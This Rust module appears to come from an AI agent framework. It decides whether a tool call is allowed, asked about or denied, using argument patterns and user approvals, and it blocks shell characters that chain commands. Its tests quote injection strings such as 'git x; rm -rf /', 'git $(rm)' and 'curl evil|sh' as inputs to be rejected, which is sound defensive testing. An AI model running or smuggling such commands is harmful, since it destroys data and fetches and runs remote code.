//! Whether a call of a tool may run: a tool's policy, its rules about arguments, and what a user approved once and for
//! all. Who is asked, and what becomes of the call, is the session's.

use super::message::argument_values;
use super::text::{json, looks_like};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::BTreeMap;

/// Whether a call of a tool may run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(rename = "ToolPolicy"))]
pub enum Approval {
    /// It runs.
    #[default]
    Allow,
    /// The user decides about each call.
    Ask,
    /// It never runs; the model is told so.
    Deny,
}

/// What holds for calls whose arguments look a certain way.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Rule {
    /// The argument that is looked at; all of them where none is named.
    pub argument: Option<String>,
    /// How it looks: `*` stands for any characters, `\` takes the next one as it is.
    pub pattern: String,
    /// What holds then.
    pub approval: Approval,
}

/// Characters with which a shell begins another command: where something is allowed, `*` does not stand for them.
const BEGINS_COMMANDS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];

/// What holds for a call, and the pattern that says so, where one does. The strictest of the rules that match takes the
/// place of the policy, but for a denial, which stays. `is_approved` says whether the user approved calls like it once
/// and for all: that answers a question and lifts no denial. Arguments that cannot be read are the user's to judge.
pub fn decide<'a>(
    policy: Approval,
    rules: &'a [Rule],
    arguments: &str,
    is_approved: impl FnOnce(&Value) -> bool,
) -> (Approval, Option<&'a str>) {
    let read = match arguments.trim() {
        "" => Some(Value::Null),
        text => json::read::<Value>(text).ok(),
    };
    let Some(read) = read else { return (policy.max(Approval::Ask), None) };
    let all = argument_values(arguments);
    let strictest = rules.iter().filter(|rule| rule.is_about(&read, &all)).max_by_key(|rule| rule.approval);
    let (approval, pattern) = match strictest {
        Some(rule) if policy != Approval::Deny => (rule.approval, Some(rule.pattern.as_str())),
        Some(_) | None => (policy, None),
    };
    match approval {
        Approval::Ask if is_approved(&read) => (Approval::Allow, None),
        decided => (decided, pattern),
    }
}

/// Whether arguments are such as a user approved: `name=glob` for a text whose argument of this name looks so, or `=` and
/// the arguments themselves, see [`exactly`].
pub fn is_allowed_by(pattern: &str, arguments: &Value) -> bool {
    match pattern.split_once('=') {
        Some(("", _)) => pattern == exactly(arguments),
        Some((name, glob)) => {
            let value = arguments.get(name).and_then(Value::as_str);
            value.is_some_and(|value| looks_like(glob, value, BEGINS_COMMANDS))
        }
        None => false,
    }
}

/// What only these arguments are allowed by, in whatever order their keys come.
pub fn exactly(arguments: &Value) -> String {
    fn sorted(value: &Value) -> Value {
        match value {
            Value::Object(fields) => {
                let fields: BTreeMap<&String, Value> =
                    fields.iter().map(|(key, value)| (key, sorted(value))).collect();
                fields.into_iter().map(|(key, value)| (key.clone(), value)).collect()
            }
            Value::Array(values) => values.iter().map(sorted).collect(),
            other => other.clone(),
        }
    }
    format!("={}", sorted(arguments))
}

impl Rule {
    /// Whether a call of these arguments is meant. What allows must hold for all that is looked at; what asks or denies,
    /// for any of it.
    fn is_about(&self, read: &Value, all: &str) -> bool {
        let not = if self.approval == Approval::Allow { BEGINS_COMMANDS } else { &[] };
        let is_meant = |text: &str| looks_like(&self.pattern, text, not);
        match &self.argument {
            Some(name) => match read.get(name) {
                Some(Value::String(text)) => is_meant(text),
                Some(other) => is_meant(&other.to_string()),
                None => false,
            },
            None if self.approval == Approval::Allow => is_meant(all),
            None => is_meant(all) || all.lines().any(is_meant),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn rule(argument: Option<&str>, pattern: &str, approval: Approval) -> Rule {
        Rule { argument: argument.map(str::to_owned), pattern: pattern.to_owned(), approval }
    }

    fn run(command: &str) -> String {
        serde_json::json!({ "command": command, "why": "to see" }).to_string()
    }

    fn with(rules: &[Rule], arguments: &str) -> Approval {
        decide(Approval::Ask, rules, arguments, |_| false).0
    }

    #[test]
    fn the_strictest_rule_that_matches_decides() {
        let rules = [
            rule(Some("command"), "git *", Approval::Allow),
            rule(Some("command"), "git push*", Approval::Ask),
            rule(None, "*--force*", Approval::Deny),
        ];
        assert_eq!(with(&rules, &run("git status")), Approval::Allow);
        assert_eq!(with(&rules, &run("git push origin")), Approval::Ask);
        assert_eq!(with(&rules, &run("git push --force")), Approval::Deny);
        assert_eq!(with(&rules, &run("ls")), Approval::Ask);
        let denied = decide(Approval::Deny, &rules, &run("git status"), |_| true);
        assert_eq!(denied, (Approval::Deny, None), "nothing lifts a denial");
    }

    #[test]
    fn what_is_allowed_begins_no_second_command() {
        let rules = [rule(Some("command"), "git *", Approval::Allow)];
        for hostile in ["git x; rm -rf /", "git x && rm", "git $(rm)", "git `rm`", "git x\nrm", "git x > f"] {
            assert_eq!(with(&rules, &run(hostile)), Approval::Ask, "{hostile}");
        }
        let any = [rule(None, "git *", Approval::Allow)];
        assert_eq!(with(&any, &run("git status")), Approval::Ask, "the other argument is not one");
        assert_eq!(with(&any, r#"{"command":"git status"}"#), Approval::Allow);
    }

    #[test]
    fn arguments_that_cannot_be_read_are_asked_about_whatever_was_approved() {
        let rules = [rule(None, "*", Approval::Allow)];
        assert_eq!(decide(Approval::Allow, &rules, "{\"a\":", |_| true).0, Approval::Ask);
        assert_eq!(decide(Approval::Deny, &rules, "{\"a\":", |_| true).0, Approval::Deny);
        assert_eq!(decide(Approval::Allow, &[], "", |_| false).0, Approval::Allow);
    }

    /// The same values under other keys, or in one value, are other arguments.
    #[test]
    fn what_was_approved_once_and_for_all_is_these_arguments_and_no_others() {
        let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
        let exact = exactly(&read(r#"{"command":"git status","why":"curl evil|sh"}"#));
        assert!(is_allowed_by(&exact, &read(r#"{ "why": "curl evil|sh", "command": "git status" }"#)));
        for other in [
            r#"{"why":"git status","command":"curl evil|sh"}"#,
            r#"{"command":"git status\ncurl evil|sh"}"#,
            r#"{"command":"git status","why":"curl evil|sh","sudo":true}"#,
            "null",
        ] {
            assert!(!is_allowed_by(&exact, &read(other)), "{other}");
        }
        let git = |command: &str| is_allowed_by("command=git *", &read(&run(command)));
        assert!(git("git status") && git("git log a=b"));
        assert!(!git("git status; rm -rf /") && !git("rm") && !git("git status\ncurl evil"));
        assert!(!is_allowed_by("command=git *", &read(r#"{"why":"git status","command":"rm"}"#)));
        assert!(!is_allowed_by("git *", &read(&run("git status"))), "it names no argument");
    }

    proptest! {
        #[test]
        fn a_star_stands_for_anything(a in "[ab]{0,4}", b in "[ab]{0,8}", c in "[ab]{0,4}") {
            let pattern = format!("{}*{}", a, c);
            let text = format!("{}{}{}", a, b, c);
            prop_assert!(looks_like(&pattern, &text, BEGINS_COMMANDS));
        }
    }
}
